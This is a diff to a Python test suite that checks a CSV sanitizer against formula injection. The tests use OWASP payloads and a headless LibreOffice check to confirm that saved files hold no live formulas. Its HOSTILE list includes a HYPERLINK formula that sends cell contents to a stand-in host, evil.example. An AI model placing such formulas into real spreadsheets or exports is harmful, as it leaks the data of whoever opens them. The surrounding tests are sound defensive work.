@@ -3,13 +3,19 @@
 from __future__ import annotations
 
 import csv
+import os
+import shutil
+import subprocess
+from pathlib import Path
+from xml.etree import ElementTree
 
 import pandas as pd
 import pytest
 
 from connectly_nb import read_export
 from connectly_nb.safety import hash_ids, mask_phone, neutralize, write_safe_csv
-from tests.conftest import row
+from connectly_nb.schema import EXPORT_COLUMNS
+from tests.conftest import csv_text, row
 
 # OWASP's CSV-injection payloads, and the characters it lists
 OWASP = [
@@ -26,9 +32,23 @@ OWASP = [
 @pytest.mark.parametrize("payload", OWASP)
 def test_neutralize_prefixes_every_owasp_payload(payload):
     out = neutralize(pd.Series([payload, "plain", None]))
-    assert out.iloc[0] == "'" + payload
+    assert out.iloc[0] == "'" + payload.replace("\t=", "\t'=").replace("\r=", "\r'=")
     assert out.iloc[1] == "plain"
     assert pd.isna(out.iloc[2])
+
+
+def test_a_formula_after_a_semicolon_tab_or_line_break_is_neutralised_too():
+    # issue 14, item 5: read with ";" as separator, "Promo;=1+1;" has a cell "=1+1"
+    cells = ["Promo;=1+1;", "a\t@SUM(1)", "x\n-2+3", "y\r\n+1", "a;b", "R$ 20; 5-10 off", "a=b"]
+    assert neutralize(pd.Series(cells)).tolist() == [
+        "Promo;'=1+1;",
+        "a\t'@SUM(1)",
+        "x\n'-2+3",
+        "y\r\n'+1",
+        "a;b",
+        "R$ 20; 5-10 off",
+        "a=b",
+    ]
 
 
 def test_phone_numbers_keep_their_plus_only_in_the_id_column():
@@ -95,4 +115,96 @@ def test_write_safe_csv_never_writes_through_a_planted_link(sample, tmp_path, pl
     check = planted_links(target)
     write_safe_csv(sample.messages.head(5), target)
     check()
-    assert target.read_bytes().startswith(b"\xef\xbb\xbfcustomer_external_id")
+    assert target.read_bytes().startswith(b'\xef\xbb\xbf"customer_external_id",')
+
+
+# --------------------------------------------------------------------------- in a real spreadsheet
+# issue 14, item 5: header names were written as they were, and in semicolon locales
+# "Promo;=1+1;" split into a live formula. LibreOffice reads the saved file here.
+
+SOFFICE = shutil.which("soffice")
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A2;"click")',
+    "Promo;=1+1;",
+    "Promo\t=2+2",
+    ";=3+3",
+    "a,=4+4",
+    'q" ;=5+5',
+    'x",=6+6',
+    "multi\n=7+7",
+    "-8+8",
+    "@SUM(9+9)",
+    "+10+10",
+    "=11+11",
+    "\t=12+12",
+    "x;@SUM(13);+1+1",
+]
+
+
+def need_soffice() -> str:
+    if SOFFICE is None:
+        message = "LibreOffice is not installed (apt-get install -y libreoffice-calc)"
+        if os.environ.get("CI") == "true":
+            pytest.fail(message + "; CI=true: the spreadsheet test must run")
+        pytest.skip(message)
+    return SOFFICE
+
+
+def formulas_in(paths: list[Path], separator: str, work: Path) -> dict[str, list[str]]:
+    """Open each CSV in LibreOffice (UTF-8, '"' quotes) and list the cells read as formulas."""
+    out = work / f"out{ord(separator)}"
+    subprocess.run(
+        [
+            need_soffice(),
+            f"-env:UserInstallation={(work / 'lo-profile').as_uri()}",
+            "--headless",
+            f"--infilter=CSV:{ord(separator)},34,76,1",
+            "--convert-to",
+            "fods",
+            "--outdir",
+            str(out),
+            *map(str, paths),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
+    ns = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
+    found = {}
+    for path in paths:
+        tree = ElementTree.parse(out / f"{path.stem}.fods")
+        found[path.stem] = [
+            cell.get(f"{ns}formula")
+            for cell in tree.iter(f"{ns}table-cell")
+            if cell.get(f"{ns}formula") is not None
+        ]
+    return found
+
+
+def test_libreoffice_finds_no_formula_in_a_saved_csv(write_export, tmp_path):
+    need_soffice()
+    rows = []
+    for i, text in enumerate(HOSTILE):
+        rows.append(
+            row(
+                customer_external_id=f"+55119876543{i:02d}",
+                campaign_name=text,
+                cnt_session_id=text,
+                error_msg=text,
+                business_id=text,
+                hostile=text,
+            )
+        )
+    columns = ["hostile", *EXPORT_COLUMNS]  # an extra column first, so a payload starts a line
+    text = csv_text(rows, columns=columns).replace(
+        "hostile", '"=HYPERLINK(""http://e.example"")"', 1
+    )
+    ex = read_export(write_export(text=text))
+    assert ex.messages.columns[15].startswith("=HYPERLINK")
+    safe = write_safe_csv(ex, tmp_path / "safe.csv")
+    control = tmp_path / "control.csv"  # the same cells written plainly: formulas expected
+    ex.messages[[*EXPORT_COLUMNS, ex.messages.columns[15]]].to_csv(control, index=False)
+    for separator in (",", ";", "\t"):
+        found = formulas_in([safe, control], separator, tmp_path)
+        assert found["control"], f"no formula seen in the plain file with {separator!r}"
+        assert found["safe"] == [], f"formulas with {separator!r} as separator: {found['safe']}"
